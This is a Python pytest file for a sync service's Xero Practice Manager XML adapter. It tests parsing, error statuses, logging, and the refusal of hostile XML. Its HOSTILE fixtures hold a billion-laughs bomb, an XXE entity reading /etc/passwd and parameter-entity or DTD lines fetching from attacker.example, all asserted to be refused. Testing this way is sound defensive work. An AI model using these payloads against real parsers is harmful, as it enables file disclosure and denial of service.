"""The Practice Manager adapter at the HTTP boundary (respx): parsing of every XML answer syncd
reads (templates, staff, categories, clients, jobs, plain OK), Status ERROR on HTTP 200 and its
trail in the sync log, HTTP errors with XML bodies, malformed and hostile XML, empty lists.
What syncd sends is in test_practice_manager_writes.py."""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from datetime import date

import httpx
import pytest
import respx

from syncd.domain.errors import NotFound, PermanentError, TransientError
from syncd.domain.ids import CompanyId
from syncd.xero.governor import RateGovernor
from syncd.xero.http import XeroHttp, build_client
from syncd.xero.practice_manager import (
    Category,
    JobTemplate,
    PracticeManagerApi,
    StaffMember,
    XpmClient,
    XpmJob,
    parse_categories,
    parse_client,
    parse_clients,
    parse_job,
    parse_jobs,
    parse_ok,
    parse_staff,
    parse_templates,
)
from tests.fakes import InstantClock, MemoryAudit, StaticTokens

API = "http://xero.test"
COMPANY = CompanyId("c-1")
TEMPLATES = "/practicemanager/3.1/template.api/list"
STAFF = "/practicemanager/3.1/staff.api/list"
T1 = "3f863a3b-87ce-4ccb-a112-98a068a3a159"
S1 = "1cd06260-aacc-4634-b605-4d916d72053d"

TEMPLATES_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="List">
  <Status>OK</Status>
  <Templates>
    <Template><UUID>{T1}</UUID><Name>Annual Accounts</Name></Template>
    <Template><UUID>t-2</UUID><Name> Tax Return </Name></Template>
  </Templates>
</Response>""".encode()

STAFF_OK = f"""<Response>
  <Status>OK</Status>
  <StaffList>
    <Staff><UUID>{S1}</UUID><Name>Jo Bloggs</Name><Email>jo@practice.example</Email>
      <Phone>021 555 0100</Phone></Staff>
    <Staff><UUID>s-2</UUID><Name>No Mail</Name><Email /></Staff>
  </StaffList>
</Response>""".encode()

ERROR = b"""<Response><Status>ERROR</Status>
<ErrorDescription>The practice has not enabled the API</ErrorDescription></Response>"""


def xml(body: bytes, status: int = 200) -> httpx.Response:
    return httpx.Response(status, content=body, headers={"Content-Type": "text/xml"})


@pytest.fixture
async def router() -> AsyncIterator[respx.MockRouter]:
    with respx.mock(base_url=API, assert_all_called=True, assert_all_mocked=True) as mock:
        yield mock


@pytest.fixture
def audit() -> MemoryAudit:
    return MemoryAudit()


@pytest.fixture
async def api(audit: MemoryAudit) -> AsyncIterator[PracticeManagerApi]:
    clock = InstantClock()
    async with build_client(base_url=API) as client:
        http = XeroHttp(
            client,
            tokens=StaticTokens(),
            governor=RateGovernor(clock=clock),
            audit=audit,
            clock=clock,
        )
        yield PracticeManagerApi(http)


async def test_templates_are_read_from_template_api_list(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET template.api/list with tenant and bearer; each <Template> becomes a JobTemplate."""
    route = router.get(TEMPLATES).mock(return_value=xml(TEMPLATES_OK))
    assert await api.templates(COMPANY) == [
        JobTemplate(template_id=T1, name="Annual Accounts"),
        JobTemplate(template_id="t-2", name="Tax Return"),
    ]
    sent = route.calls.last.request
    assert sent.headers["xero-tenant-id"] == "tenant-1"
    assert sent.headers["authorization"] == "Bearer token-1"
    # XeroHttp's client asks for JSON; XPM answers XML regardless and the adapter reads that.
    assert sent.headers["accept"] == "application/json"


async def test_staff_are_read_from_staff_api_list(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET staff.api/list; an empty <Email /> is None and unknown elements are ignored."""
    router.get(STAFF).mock(return_value=xml(STAFF_OK))
    assert await api.staff(COMPANY) == [
        StaffMember(staff_id=S1, name="Jo Bloggs", email="jo@practice.example"),
        StaffMember(staff_id="s-2", name="No Mail", email=None),
    ]


@pytest.mark.parametrize("path", [TEMPLATES, STAFF])
async def test_status_error_on_http_200_is_permanent(
    router: respx.MockRouter, api: PracticeManagerApi, path: str
) -> None:
    """A 200 whose <Status> is ERROR raises PermanentError carrying XPM's ErrorDescription."""
    router.get(path).mock(return_value=xml(ERROR))
    call = api.templates if path == TEMPLATES else api.staff
    with pytest.raises(PermanentError, match="has not enabled the API"):
        await call(COMPANY)


async def test_malformed_xml_is_permanent(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """An answer that is not well-formed XML (here JSON) raises PermanentError."""
    router.get(STAFF).mock(return_value=httpx.Response(200, json={"Staff": []}))
    with pytest.raises(PermanentError, match="unreadable XML"):
        await api.staff(COMPANY)


@pytest.mark.parametrize(
    ("body", "items"),
    [
        (b"<Response><Status>OK</Status><Templates /></Response>", "templates"),
        (b"<Response><Status>OK</Status><StaffList>\n</StaffList></Response>", "staff"),
    ],
)
def test_empty_lists_parse_to_nothing(body: bytes, items: str) -> None:
    """An OK answer with an empty container is an empty list."""
    parse = parse_templates if items == "templates" else parse_staff
    assert parse(body) == []


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (b"", "unreadable XML"),
        (b"<Response><Status>OK</Status>", "unreadable XML"),
        (b"<Templates><Template /></Templates>", "not <Response>"),
        (b"<Response><Templates /></Response>", r"Status '\(missing\)'"),
        (b"<Response><Status>MAYBE</Status><Templates /></Response>", "Status 'MAYBE'"),
        (b"<Response><Status>OK</Status><StaffList /></Response>", "without <Templates>"),
        (
            b"<Response><Status>OK</Status><Templates><Template><Name>x</Name>"
            b"</Template></Templates></Response>",
            "template without a UUID",
        ),
        (b"<Response><Status>ERROR</Status></Response>", "no ErrorDescription"),
    ],
)
def test_unusable_template_answers_are_permanent(body: bytes, fragment: str) -> None:
    """Truncated XML, another root, a missing or odd Status, no container or no UUID: refused."""
    with pytest.raises(PermanentError, match=fragment):
        parse_templates(body)


def test_entity_declarations_are_refused() -> None:
    """XML with entity declarations (a billion-laughs shape) is refused by defusedxml, unread."""
    bomb = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<Response><Status>OK</Status><StaffList><Staff><UUID>&b;</UUID></Staff></StaffList></Response>"""
    with pytest.raises(PermanentError, match="unreadable XML"):
        parse_staff(bomb)


def test_a_staff_member_without_a_uuid_is_permanent() -> None:
    """Staff must carry a UUID (it is what syncd maps CRM people to)."""
    body = b"<Response><Status>OK</Status><StaffList><Staff><UUID> </UUID></Staff></StaffList>"
    with pytest.raises(PermanentError, match="staff member without a UUID"):
        parse_staff(body + b"</Response>")


@pytest.mark.parametrize(
    ("status", "error"), [(500, TransientError), (404, NotFound), (400, PermanentError)]
)
async def test_http_errors_are_translated_by_xerohttp(
    router: respx.MockRouter, api: PracticeManagerApi, status: int, error: type[Exception]
) -> None:
    """Non-2xx answers (XPM's XML error bodies too) go through XeroHttp's one translation."""
    router.get(TEMPLATES).mock(return_value=xml(ERROR, status))
    with pytest.raises(error):
        await api.templates(COMPANY)


# -- every other answer syncd reads -------------------------------------------------------------

BASE = "/practicemanager/3.1"
CATEGORIES = f"{BASE}/category.api/list"
CLIENT_LIST = f"{BASE}/client.api/list"
CLIENT_SEARCH = f"{BASE}/client.api/search"
CURRENT_JOBS = f"{BASE}/job.api/current"
C1 = "dea92ac7-d536-402d-9447-7875020499be"
C2 = "5b2f0a51-3c1e-4f0e-8d0c-2a9f6b8e4c10"
C3 = "9a1c6e77-0b4d-4a55-b1a2-7e3d5c9f0a21"
C4 = "e04b7f1a-6d2c-48b9-9c3e-1f5a8d7b6c32"
J1 = "0d3458b8-7c1d-4e5f-a6b7-c8d9e0f1a2b3"
J2 = "4f1e2d3c-b5a6-4798-8a9b-0c1d2e3f4a5b"
K1 = "7e6d5c4b-3a29-4180-9f8e-7d6c5b4a3928"
REF = "syncd:5e0c8a4e-1b2c-4d3e-9f80-a1b2c3d4e5f6"

CATEGORIES_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="List">
  <Status>OK</Status>
  <Categories>
    <Category>
      <UUID>{K1}</UUID>
      <Name>Compliance</Name>
    </Category>
    <Category><UUID> k-2 </UUID><Name>
        Advisory
    </Name><Colour>#ff0000</Colour></Category>
  </Categories>
</Response>""".encode()

CLIENTS_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="List">
  <Status>OK</Status>
  <Clients>
    <Client>
      <UUID>{C1}</UUID>
      <Name>Olivia Chen</Name>
      <Title />
      <Email>olivia@example.com</Email>
      <Phone>0400 000 000</Phone>
      <Address>1 Queen Street</Address>
      <IsArchived>No</IsArchived>
      <IsDeleted>No</IsDeleted>
      <IsProspect>No</IsProspect>
      <Contacts>
        <Contact>
          <UUID>p-1</UUID><Name>Olivia Chen</Name><Email>olivia@example.com</Email>
          <IsPrimary>Yes</IsPrimary>
        </Contact>
      </Contacts>
      <Groups><Group><UUID>g-1</UUID><Name>Tax clients</Name></Group></Groups>
    </Client>
    <Client>
      <UUID>{C2}</UUID><Name>Old &amp; Gone Ltd</Name><Email>old@example.com</Email>
      <IsArchived>Yes</IsArchived><IsDeleted>No</IsDeleted>
    </Client>
    <Client>
      <UUID>{C3}</UUID><Name>Deleted Trust</Name><Email />
      <IsArchived>No</IsArchived><IsDeleted>Yes</IsDeleted>
    </Client>
    <Client>
      <UUID>{C4}</UUID>
      <Name>
        Ngā Tāne Partners
      </Name>
      <Contacts>
        <Contact><UUID>p-4</UUID><Name>Contact Only</Name><Email>contact@example.com</Email>
          <IsPrimary>Yes</IsPrimary></Contact>
      </Contacts>
    </Client>
  </Clients>
</Response>""".encode()

CLIENT_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="Get">
  <Status>OK</Status>
  <Client>
    <UUID>{C1}</UUID>
    <Name>Olivia Chen</Name>
    <Email>olivia@example.com</Email>
    <Phone>0400 000 000</Phone>
    <IsArchived>No</IsArchived>
    <IsDeleted>No</IsDeleted>
    <Contacts>
      <Contact><UUID>p-1</UUID><Name>Primary Person</Name><Email>p@example.com</Email>
        <IsPrimary>Yes</IsPrimary></Contact>
    </Contacts>
  </Client>
</Response>""".encode()

JOBS_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="Current">
  <Status>OK</Status>
  <Jobs>
    <Job>
      <ID>J000309</ID>
      <UUID>{J1}</UUID>
      <Name>Individual Tax Return - Olivia Chen</Name>
      <Description>FY26 return</Description>
      <ClientOrderNumber>{REF}</ClientOrderNumber>
      <State>Planned</State>
      <Type>Compliance</Type>
      <StartDate>2026-12-03T00:00:00</StartDate>
      <DueDate>2026-12-31T00:00:00</DueDate>
      <Budget>350.00</Budget>
      <Client>
        <UUID>{C1}</UUID>
        <Name>Olivia Chen</Name>
      </Client>
      <Manager><UUID>{S1}</UUID><Name>Ann Accountant</Name></Manager>
      <Assigned><Staff><UUID>s-9</UUID><Name>Someone Else</Name></Staff></Assigned>
    </Job>
    <Job>
      <ID>J000310</ID>
      <UUID>{J2}</UUID>
      <Name>Annual Accounts - Ngā Tāne Partners</Name>
      <Description />
      <ClientOrderNumber />
      <State>In Progress</State>
      <StartDate>2026-12-04T00:00:00</StartDate>
      <DueDate>2027-01-15T00:00:00</DueDate>
      <Budget>0.00</Budget>
      <Client><UUID>{C4}</UUID><Name>Ngā Tāne Partners</Name></Client>
    </Job>
  </Jobs>
</Response>""".encode()

JOB_OK = f"""<?xml version="1.0" encoding="utf-8"?>
<Response api-method="Get">
  <Status>OK</Status>
  <Job>
    <ID>J000309</ID>
    <UUID>{J1}</UUID>
    <Name>Individual Tax Return - Olivia Chen</Name>
    <Description>FY26 return</Description>
    <ClientOrderNumber>{REF}</ClientOrderNumber>
    <State>Completed</State>
    <StartDate>2026-12-03T00:00:00</StartDate>
    <DueDate>2026-12-31T00:00:00</DueDate>
    <CompletedDate>2026-12-20T00:00:00</CompletedDate>
    <Budget>350.00</Budget>
    <Client><UUID>{C1}</UUID><Name>Olivia Chen</Name></Client>
    <Manager><UUID>{S1}</UUID><Name>Ann Accountant</Name></Manager>
  </Job>
</Response>""".encode()

OLIVIA = XpmClient(client_id=C1, name="Olivia Chen", email="olivia@example.com", archived=False)
J000309 = XpmJob(
    number="J000309",
    job_id=J1,
    name="Individual Tax Return - Olivia Chen",
    state="Planned",
    client_id=C1,
    client_order_number=REF,
    due=date(2026, 12, 31),
    manager_id=S1,
)

Call = Callable[[PracticeManagerApi], Awaitable[object]]

# Every read: (path, the call). Ids name them in test reports.
READS: dict[str, tuple[str, Call]] = {
    "templates": (TEMPLATES, lambda api: api.templates(COMPANY)),
    "staff": (STAFF, lambda api: api.staff(COMPANY)),
    "categories": (CATEGORIES, lambda api: api.categories(COMPANY)),
    "client-search": (CLIENT_SEARCH, lambda api: api.search_clients(COMPANY, "olivia")),
    "client-list": (CLIENT_LIST, lambda api: api.clients(COMPANY)),
    "client-get": (f"{BASE}/client.api/get/{C1}", lambda api: api.client(COMPANY, C1)),
    "current-jobs": (CURRENT_JOBS, lambda api: api.current_jobs(COMPANY)),
    "client-jobs": (f"{BASE}/job.api/client/{C1}", lambda api: api.client_jobs(COMPANY, C1)),
    "job-get": (f"{BASE}/job.api/get/J000309", lambda api: api.job(COMPANY, "J000309")),
}

Parser = Callable[[bytes], object]

# Every parser, with its container (or single element) and item tags.
PARSERS: dict[str, tuple[Parser, str, str | None]] = {
    "templates": (parse_templates, "Templates", "Template"),
    "staff": (parse_staff, "StaffList", "Staff"),
    "categories": (parse_categories, "Categories", "Category"),
    "clients": (parse_clients, "Clients", "Client"),
    "client": (parse_client, "Client", None),
    "jobs": (parse_jobs, "Jobs", "Job"),
    "job": (parse_job, "Job", None),
}
EVERY_PARSER: dict[str, Parser] = {
    **{name: parser for name, (parser, _, _) in PARSERS.items()},
    "ok": parse_ok,
}


def error(description: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<Response>\n  <Status>ERROR</Status>\n'
        f"  <ErrorDescription>{description}</ErrorDescription>\n</Response>"
    ).encode()


def ok_with(inner: str) -> bytes:
    return f"<Response>\n  <Status>OK</Status>\n  {inner}\n</Response>".encode()


def job_xml(inner: str) -> bytes:
    return ok_with(f"<Job><ID>J000309</ID><UUID>{J1}</UUID>{inner}</Job>")


async def test_categories_are_read_from_category_api_list(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET category.api/list; each <Category> becomes a Category, text stripped, extras ignored."""
    router.get(CATEGORIES).mock(return_value=xml(CATEGORIES_OK))
    assert await api.categories(COMPANY) == [
        Category(category_id=K1, name="Compliance"),
        Category(category_id="k-2", name="Advisory"),
    ]


async def test_client_list_flags_archived_and_deleted_clients(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """client.api/list: IsArchived/IsDeleted mark archived; a contact's Email is not taken."""
    router.get(CLIENT_LIST).mock(return_value=xml(CLIENTS_OK))
    assert await api.clients(COMPANY) == [
        OLIVIA,
        XpmClient(client_id=C2, name="Old & Gone Ltd", email="old@example.com", archived=True),
        XpmClient(client_id=C3, name="Deleted Trust", email=None, archived=True),
        XpmClient(client_id=C4, name="Ngā Tāne Partners", email=None, archived=False),
    ]


async def test_client_search_sends_the_query_and_reads_clients(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET client.api/search?query=…, the query encoded as one parameter (`&`, `=`, `#` kept)."""
    route = router.get(CLIENT_SEARCH).mock(return_value=xml(CLIENTS_OK))
    found = await api.search_clients(COMPANY, "o'neil & sons=#1?")
    assert [c.client_id for c in found] == [C1, C2, C3, C4]
    sent = route.calls.last.request
    assert sent.method == "GET"
    assert dict(sent.url.params) == {"query": "o'neil & sons=#1?"}
    assert sent.url.path == CLIENT_SEARCH


async def test_one_client_is_read_from_client_api_get(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET client.api/get/{uuid}: the client, not its primary contact."""
    router.get(f"{BASE}/client.api/get/{C1}").mock(return_value=xml(CLIENT_OK))
    assert await api.client(COMPANY, C1) == OLIVIA


async def test_current_jobs_are_read_from_job_api_current(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """job.api/current: every field syncd keeps; empty elements and no <Manager> are None."""
    router.get(CURRENT_JOBS).mock(return_value=xml(JOBS_OK))
    assert await api.current_jobs(COMPANY) == [
        J000309,
        XpmJob(
            number="J000310",
            job_id=J2,
            name="Annual Accounts - Ngā Tāne Partners",
            state="In Progress",
            client_id=C4,
            client_order_number=None,
            due=date(2027, 1, 15),
            manager_id=None,
        ),
    ]


async def test_a_client_s_jobs_are_read_from_job_api_client(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET job.api/client/{uuid} reads the same <Jobs> document."""
    router.get(f"{BASE}/job.api/client/{C1}").mock(return_value=xml(JOBS_OK))
    jobs = await api.client_jobs(COMPANY, C1)
    assert [(j.number, j.client_order_number) for j in jobs] == [
        ("J000309", REF),
        ("J000310", None),
    ]


async def test_one_job_is_read_from_job_api_get(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET job.api/get/{number}: a completed job (CompletedDate and extras ignored)."""
    router.get(f"{BASE}/job.api/get/J000309").mock(return_value=xml(JOB_OK))
    job = await api.job(COMPANY, "J000309")
    assert job.state == "Completed"
    assert (job.number, job.job_id, job.client_id, job.manager_id) == ("J000309", J1, C1, S1)
    assert job.due == date(2026, 12, 31)


@pytest.mark.parametrize(
    ("due", "expected"),
    [
        ("<DueDate>2026-12-31T00:00:00</DueDate>", date(2026, 12, 31)),
        ("<DueDate>\n  2027-02-28T17:45:00\n</DueDate>", date(2027, 2, 28)),
        ("<DueDate>31/12/2026</DueDate>", None),
        ("<DueDate>2026-02-30T00:00:00</DueDate>", None),
        ("<DueDate>soon</DueDate>", None),
        ("<DueDate />", None),
        ("", None),
    ],
    ids=["midnight", "with-time", "day-first", "impossible", "words", "empty", "absent"],
)
def test_job_due_dates_in_answer_form(due: str, expected: date | None) -> None:
    """Answer-form due dates are dates; empty, absent or unreadable ones are None."""
    job = parse_job(job_xml(f"<Name>n</Name><State>Planned</State>{due}"))
    assert job.number == "J000309"
    assert job.due == expected


@pytest.mark.parametrize(
    ("manager", "expected"),
    [
        (f"<Manager><UUID>{S1}</UUID><Name>Ann Accountant</Name></Manager>", S1),
        (f"<Manager>\n  <UUID> {S1} </UUID>\n</Manager>", S1),
        ("", None),
        ("<Manager />", None),
        ("<Manager><UUID /><Name>Nobody</Name></Manager>", None),
    ],
    ids=["present", "whitespace", "absent", "empty", "no-uuid"],
)
def test_job_manager_absent_or_present(manager: str, expected: str | None) -> None:
    """The manager is the <Manager>'s UUID; without a <Manager> (or its UUID) the job has none."""
    assert parse_job(job_xml(f"<State>Planned</State>{manager}")).manager_id == expected


def test_job_fields_are_direct_children_not_nested_ones() -> None:
    """Name, State and client come from the job itself, never its nested client or manager."""
    job = parse_job(
        job_xml(
            f"<Client><UUID>{C1}</UUID><Name>Client Name</Name><State>x</State></Client>"
            "<Manager><UUID>m</UUID><Name>Manager Name</Name></Manager>"
        )
    )
    assert (job.name, job.state) == ("", "")
    unowned = parse_job(job_xml("<Name>Internal job</Name><State>Planned</State>"))
    assert unowned.client_id is None


def test_a_job_s_uuid_is_never_taken_from_its_client_or_manager() -> None:
    """A job without its own UUID is refused even when its client and manager carry one."""
    body = ok_with(
        f"<Job><ID>J000309</ID><Client><UUID>{C1}</UUID></Client>"
        f"<Manager><UUID>{S1}</UUID></Manager></Job>"
    )
    with pytest.raises(PermanentError, match="job without a UUID"):
        parse_job(body)


@pytest.mark.parametrize(
    "flags",
    [
        "<IsArchived>Yes</IsArchived><IsDeleted>No</IsDeleted>",
        "<IsArchived>No</IsArchived><IsDeleted>Yes</IsDeleted>",
        "<IsArchived>yes</IsArchived>",
        "<IsDeleted>true</IsDeleted>",
    ],
)
def test_archived_or_deleted_clients_are_archived(flags: str) -> None:
    """Either flag, in any case or as true, marks the client archived."""
    body = ok_with(f"<Client><UUID>{C1}</UUID><Name>x</Name>{flags}</Client>")
    assert parse_client(body).archived is True


@pytest.mark.parametrize(
    "flags",
    ["<IsArchived>No</IsArchived><IsDeleted>No</IsDeleted>", "", "<IsArchived /><IsDeleted />"],
    ids=["no", "absent", "empty"],
)
def test_clients_without_the_flags_are_active(flags: str) -> None:
    """No, absent or empty flags: the client is active."""
    body = ok_with(f"<Client><UUID>{C1}</UUID><Name>x</Name>{flags}</Client>")
    assert parse_client(body).archived is False


def test_a_plain_ok_answer_is_accepted_whatever_else_it_carries() -> None:
    """parse_ok (state, assign) accepts an OK envelope, with or without the job echoed back."""
    assert parse_ok(b"<Response><Status>OK</Status></Response>") is None
    assert parse_ok(JOB_OK) is None


@pytest.mark.parametrize(
    ("parse", "body"),
    [
        (parse_categories, b"<Response><Status>OK</Status><Categories /></Response>"),
        (parse_clients, b"<Response><Status>OK</Status><Clients></Clients></Response>"),
        (parse_jobs, b"<Response>\n  <Status>OK</Status>\n  <Jobs />\n</Response>"),
        (parse_jobs, b"<Response><Status>OK</Status><Jobs>\n    \n  </Jobs></Response>"),
    ],
    ids=["categories", "clients", "jobs", "jobs-whitespace"],
)
def test_more_empty_lists_parse_to_nothing(parse: Parser, body: bytes) -> None:
    """An OK answer with an empty container is an empty list, for every list document."""
    assert parse(body) == []


async def test_an_empty_current_list_over_http(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """GET job.api/current answering `<Jobs />` is no jobs, not an error."""
    router.get(CURRENT_JOBS).mock(return_value=xml(ok_with("<Jobs />")))
    assert await api.current_jobs(COMPANY) == []


@pytest.mark.parametrize("name", list(PARSERS))
def test_an_ok_answer_without_its_container_is_permanent(name: str) -> None:
    """OK without the document's container (even with bare items) is PermanentError."""
    parse, container, item = PARSERS[name]
    with pytest.raises(PermanentError, match=f"without <{container}>"):
        parse(ok_with("<Other />"))
    if item is not None:
        with pytest.raises(PermanentError, match=f"without <{container}>"):
            parse(ok_with(f"<{item}><UUID>u</UUID><ID>J1</ID></{item}>"))


@pytest.mark.parametrize(
    ("name", "what"),
    [
        ("templates", "template"),
        ("staff", "staff member"),
        ("categories", "category"),
        ("clients", "client"),
        ("client", "client"),
        ("jobs", "job"),
        ("job", "job"),
    ],
)
def test_an_item_without_a_uuid_is_permanent(name: str, what: str) -> None:
    """Every record syncd keeps an id of must carry a UUID (absent or blank): PermanentError."""
    parse, container, item = PARSERS[name]
    for uuid in ("", "<UUID>  </UUID>"):
        record = f"<{item or container}><ID>J000309</ID>{uuid}<Name>x</Name></{item or container}>"
        inner = f"<{container}>{record}</{container}>" if item else record
        with pytest.raises(PermanentError, match=f"a {what} without a UUID"):
            parse(ok_with(inner))


@pytest.mark.parametrize("parse", [parse_job, parse_jobs], ids=["job", "jobs"])
@pytest.mark.parametrize("number", ["", "<ID />", "<ID> </ID>"], ids=["absent", "empty", "blank"])
def test_a_job_without_a_number_is_permanent(parse: Parser, number: str) -> None:
    """A job must carry its number (ID): syncd addresses XPM jobs by it."""
    job = f"<Job>{number}<UUID>{J1}</UUID><Name>x</Name><State>Planned</State></Job>"
    with pytest.raises(PermanentError, match="without an ID"):
        parse(ok_with(f"<Jobs>{job}</Jobs>" if parse is parse_jobs else job))


HOSTILE = {
    "billion-laughs": b"""<?xml version="1.0"?>
<!DOCTYPE Response [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<Response><Status>OK</Status><Jobs><Job><ID>&c;</ID></Job></Jobs><Job><ID>&c;</ID></Job>
<Clients /><Client><UUID>&c;</UUID></Client></Response>""",
    "external-entity": b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<Response><Status>OK</Status><Job><ID>&leak;</ID><UUID>u</UUID></Job>
<Client><UUID>&leak;</UUID></Client></Response>""",
    "parameter-entity": b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Response><Status>OK</Status></Response>""",
    "internal-entity": b"""<!DOCTYPE Response [<!ENTITY ok "OK">]>
<Response><Status>&ok;</Status></Response>""",
}


@pytest.mark.parametrize("hostile", list(HOSTILE))
@pytest.mark.parametrize("name", list(EVERY_PARSER))
def test_entity_declarations_are_refused_by_every_parser(name: str, hostile: str) -> None:
    """An answer declaring entities is refused as unreadable, never expanded or fetched."""
    with pytest.raises(PermanentError, match="unreadable XML") as refused:
        EVERY_PARSER[name](HOSTILE[hostile])
    assert "aaaaaaaaaa" not in str(refused.value)
    assert "root:" not in str(refused.value)


async def test_an_answer_with_a_dtd_is_refused(
    router: respx.MockRouter, api: PracticeManagerApi
) -> None:
    """A DOCTYPE in an answer is refused like entity declarations (docs: DTDs are refused)."""
    body = b'<?xml version="1.0"?>\n<!DOCTYPE Response SYSTEM "http://attacker.example/r.dtd">\n'
    router.get(CURRENT_JOBS).mock(return_value=xml(body + JOBS_OK.split(b"?>", 1)[1]))
    with pytest.raises(PermanentError):
        await api.current_jobs(COMPANY)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b'{"Jobs": []}',
        b"<html><head><title>502 Bad Gateway</title></head></html",
        b"Status: OK",
        b"<Response><Status>OK</Status><Jobs>",
    ],
    ids=["empty", "json", "html", "text", "truncated"],
)
@pytest.mark.parametrize("name", list(EVERY_PARSER))
def test_bodies_that_are_not_xml_are_permanent(name: str, body: bytes) -> None:
    """Whatever the document, a body that is not well-formed XML raises PermanentError."""
    with pytest.raises(PermanentError, match="unreadable XML"):
        EVERY_PARSER[name](body)


@pytest.mark.parametrize("name", list(EVERY_PARSER))
def test_a_wrong_root_element_is_permanent(name: str) -> None:
    """A well-formed answer whose root is not <Response> is refused, even holding the document."""
    body = b"<Result><Status>OK</Status>" + JOBS_OK.split(b"<Status>OK</Status>")[1]
    body = body.replace(b"</Response>", b"</Result>")
    with pytest.raises(PermanentError, match="<Result>, not <Response>"):
        EVERY_PARSER[name](body)


@pytest.mark.parametrize("name", list(EVERY_PARSER))
def test_status_error_is_raised_by_every_parser(name: str) -> None:
    """Status ERROR raises PermanentError with XPM's ErrorDescription, whatever else is there."""
    body = error("Invalid tenant").replace(b"</Response>", JOBS_OK.split(b"</Status>")[1])
    with pytest.raises(PermanentError, match="refused the call: Invalid tenant") as refused:
        EVERY_PARSER[name](body)
    assert not isinstance(refused.value, NotFound)


@pytest.mark.parametrize("read", list(READS))
async def test_status_error_on_http_200_is_permanent_for_every_read(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit, read: str
) -> None:
    """HTTP 200 Status ERROR on any read: PermanentError quoting XPM, logged as failed."""
    path, call = READS[read]
    router.get(path).mock(return_value=xml(error("API access is disabled for this practice")))
    with pytest.raises(PermanentError, match="API access is disabled") as refused:
        await call(api)
    assert not isinstance(refused.value, NotFound)
    [record] = audit.calls
    assert (record.method, record.path, record.status) == ("GET", path, 200)
    assert record.error is not None
    assert "API access is disabled for this practice" in record.error


@pytest.mark.parametrize(
    ("read", "description"),
    [
        ("job-get", "Job J000309 not found"),
        ("client-get", f"Client {C1} not found"),
        ("client-jobs", f"Client {C1} not found"),
    ],
)
async def test_not_found_on_http_200_is_notfound(
    router: respx.MockRouter,
    api: PracticeManagerApi,
    audit: MemoryAudit,
    read: str,
    description: str,
) -> None:
    """Status ERROR saying the record was not found is NotFound (the record is gone), logged."""
    path, call = READS[read]
    router.get(path).mock(return_value=xml(error(description)))
    with pytest.raises(NotFound, match=description):
        await call(api)
    [record] = audit.calls
    assert record.status == 200
    assert record.error is not None
    assert description in record.error


@pytest.mark.parametrize(
    "media_type",
    ["text/xml", "text/xml; charset=utf-8", "application/xml", "application/xml; charset=utf-8"],
)
async def test_status_error_is_recognised_in_any_xml_media_type(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit, media_type: str
) -> None:
    """XeroHttp checks the envelope of any XML answer, so the log shows the failure."""
    router.get(CURRENT_JOBS).mock(
        return_value=httpx.Response(
            200, content=error("Rate plan exceeded"), headers={"Content-Type": media_type}
        )
    )
    with pytest.raises(PermanentError, match="Rate plan exceeded"):
        await api.current_jobs(COMPANY)
    assert audit.calls[-1].error is not None
    assert "Rate plan exceeded" in audit.calls[-1].error


@pytest.mark.parametrize("read", list(READS))
async def test_an_ok_answer_records_no_error(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit, read: str
) -> None:
    """A successful read is one sync-log record: GET, its path, status 200, no error."""
    path, call = READS[read]
    body = {
        "templates": TEMPLATES_OK,
        "staff": STAFF_OK,
        "categories": CATEGORIES_OK,
        "client-search": CLIENTS_OK,
        "client-list": CLIENTS_OK,
        "client-get": CLIENT_OK,
        "current-jobs": JOBS_OK,
        "client-jobs": JOBS_OK,
        "job-get": JOB_OK,
    }[read]
    router.get(path).mock(return_value=xml(body))
    await call(api)
    [record] = audit.calls
    assert (record.company, record.method, record.path) == (COMPANY, "GET", path)
    assert (record.status, record.error) == (200, None)


@pytest.mark.parametrize("read", ["current-jobs", "job-get", "client-get", "categories"])
async def test_http_500_with_an_xml_body_is_transient(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit, read: str
) -> None:
    """HTTP 500 is transient whatever its XML says; the log keeps XPM's ErrorDescription."""
    path, call = READS[read]
    router.get(path).mock(return_value=xml(error("Job J000309 not found"), 500))
    with pytest.raises(TransientError) as failed:
        await call(api)
    assert not isinstance(failed.value, PermanentError)
    [record] = audit.calls
    assert (record.status, record.error) == (500, "Job J000309 not found")


async def test_http_400_with_an_xml_body_quotes_xpm(
    router: respx.MockRouter, api: PracticeManagerApi, audit: MemoryAudit
) -> None:
